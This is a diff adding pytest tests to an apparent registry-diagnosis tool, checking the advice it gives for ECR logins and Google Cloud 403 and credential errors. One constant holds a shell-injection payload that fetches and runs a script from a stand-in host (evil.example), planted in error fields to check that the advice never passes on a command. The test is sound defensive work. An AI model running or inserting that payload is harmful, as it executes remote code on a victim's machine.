@@ -93,6 +93,10 @@ def test_doctor_advice_leaves_other_causes_of_a_403_to_their_own_hint():
     assert advice(registry("gcr.io/acme"), "", error).startswith("VPC Service Controls refused the request")
 
 
+def test_doctor_advice_for_a_login_at_ecr_that_has_expired_with_403():
+    assert advice(registry(ECR), "", denied(ECR, "_catalog", 403)).startswith("run `aws ecr get-login-password ")
+
+
 @pytest.mark.parametrize(
     ("error", "expected"),
     [
@@ -108,6 +112,38 @@ def test_doctor_advice_leaves_other_causes_of_a_403_to_their_own_hint():
 )
 def test_doctor_advice_of_other_refusals(error, expected):
     assert advice(registry("registry.example.com"), "", error).startswith(expected)
+
+
+HOSTILE = "$(curl${IFS}evil.example|sh)"
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        Denied(
+            "GET u", code="USER_PROJECT_DENIED", message=f"may not use the quota project {HOSTILE} (x", http_status=403
+        ),
+        Denied("GET u", code="SERVICE_DISABLED", message="off", http_status=403, consumer=f"projects/{HOSTILE}"),
+        Denied(
+            "GET u",
+            code="X",
+            message=f"Artifact Registry API has not been used in project {HOSTILE} before or it is disabled",
+            http_status=403,
+        ),
+        Denied(f"GET https://h/v1/projects/{HOSTILE}/locations", code="X", message="no", http_status=403),
+        CredentialsError(f"the token server {HOSTILE} of h is not trusted with the credentials"),
+        CredentialsError(f"IAM refuses to impersonate {HOSTILE}@x: grant roles/iam.serviceAccountTokenCreator"),
+        CredentialsError(f"Google refuses the credentials: the key of {HOSTILE} was deleted"),
+    ],
+)
+def test_doctor_advice_has_no_command_of_somebody_else(error):
+    """Operators copy what is advised into a shell, and a registry or an API writes its errors."""
+    assert "$" not in advice(registry("gcr.io/acme"), f"{HOSTILE}@example.com", error)
+
+
+def test_doctor_advice_of_a_proxy_is_not_taken_from_a_name_or_a_message():
+    named = Denied("GET https://proxy.example.com/v2/", code="DENIED", message="the proxy x refuses", http_status=403)
+    assert "PROXY" not in advice(registry("proxy.example.com"), "", named)
 
 
 def test_doctor_advice_is_none_where_the_cause_is_not_certain():
